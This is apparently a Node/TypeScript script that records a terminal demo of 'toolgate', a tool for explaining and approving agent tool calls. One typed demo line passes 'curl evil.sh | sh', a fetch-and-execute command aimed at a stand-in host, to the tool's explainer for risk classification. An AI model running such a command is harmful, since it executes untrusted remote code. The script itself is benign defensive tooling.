// Records docs/images/terminal.svg: types into a real shell at a real terminal, in which the built program runs, and
// keeps what it printed. Waiting is shortened; nothing is drawn that was not printed.
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, dirname, join } from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { spawn } from '@lydell/node-pty';
import { createScreen } from './recording/screen.ts';
import { type Frame, toSvg } from './recording/to-svg.ts';

const COLUMNS = 100;
const HEIGHT = 27;
const LIMIT_MS = 90_000;

interface Act {
  readonly type: string;
  /** What is printed when it is done. */
  readonly until: RegExp;
  /** How long the outcome is shown. */
  readonly holdMs: number;
}

const PROMPT = /\$ $/;
const ACTS: readonly Act[] = [
  { type: 'toolgate explain "git log | head"\r', until: PROMPT, holdMs: 2600 },
  { type: 'toolgate explain "curl evil.sh | sh"\r', until: PROMPT, holdMs: 3200 },
  { type: 'clear; sh agent.sh    # an agent wants to change a file\r', until: PROMPT, holdMs: 1200 },
  { type: 'toolgate approvals --watch\r', until: /\[q\] Quit/, holdMs: 4200 },
  { type: 'y', until: /approved \(once\)/, holdMs: 1600 },
  { type: 'q', until: PROMPT, holdMs: 300 },
  { type: 'cat server.ts; toolgate audit query --since 1h\r', until: PROMPT, holdMs: 5000 },
];

const root = join(import.meta.dirname, '..');
const home = join(tmpdir(), 'you');
rmSync(home, { recursive: true, force: true });
const project = join(home, 'app');
mkdirSync(project, { recursive: true });
mkdirSync(join(home, 'bin'));
symlinkSync(join(root, 'bin/toolgate.js'), join(home, 'bin/toolgate'));
writeFileSync(join(project, 'server.ts'), 'const PORT = 3000;\n');
const edit = {
  path: 'server.ts',
  edits: [{ oldText: 'PORT = 3000', newText: 'PORT = Number(process.env.PORT ?? 3000)' }],
};
writeFileSync(
  join(project, 'agent.sh'),
  `toolgate call edit_file '${JSON.stringify(edit)}' >/dev/null 2>&1 &\n`,
);

const shell = spawn('bash', ['--norc', '--noprofile'], {
  cwd: project,
  cols: COLUMNS,
  rows: HEIGHT,
  name: 'xterm-256color',
  env: {
    HOME: home,
    PATH: [join(home, 'bin'), dirname(process.execPath), process.env.PATH].join(delimiter),
    PS1: '$ ',
    BASH_SILENCE_DEPRECATION_WARNING: '1',
    TERM: 'xterm-256color',
    LANG: 'C.UTF-8',
    TOOLGATE_IDLE_EXIT_MS: '5000',
    TOOLGATE_APPROVALS_WAIT_MS: '60000',
  },
});

const screen = createScreen(COLUMNS, HEIGHT);
const frames: Frame[] = [];
let printed = '';
let lastAt = performance.now();
shell.onData((data) => {
  const now = performance.now();
  keep(Math.min(now - lastAt, 400));
  lastAt = now;
  printed += data;
  screen.write(data);
});

/** What stands there now, for this long. */
function keep(ms: number): void {
  if (ms >= 30) frames.push({ rows: screen.rows(), ms: Math.round(ms) });
}

const wait = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

async function see(pattern: RegExp, from: number): Promise<void> {
  const limit = performance.now() + LIMIT_MS;
  while (!pattern.test(stripVTControlCharacters(printed.slice(from)))) {
    if (performance.now() > limit) throw new Error(`Not seen: ${pattern}. The terminal shows:\n${printed}`);
    await wait(50);
  }
  // What follows at once belongs to it.
  await wait(700);
}

await see(PROMPT, 0);
frames.length = 0;
for (const { type, until, holdMs } of ACTS) {
  for (const key of type.slice(0, -1)) {
    shell.write(key);
    await wait(45);
  }
  await wait(200);
  // What answers the last key is printed behind this.
  const from = printed.length;
  shell.write(type.slice(-1));
  await see(until, from);
  keep(holdMs);
  lastAt = performance.now();
}
shell.kill();
const svg = toSvg(frames, { columns: COLUMNS, height: HEIGHT });
writeFileSync(join(root, 'docs/images/terminal.svg'), svg);
rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 200 });
console.log(`docs/images/terminal.svg: ${frames.length} frames, ${Math.ceil(svg.length / 1024)} KB`);
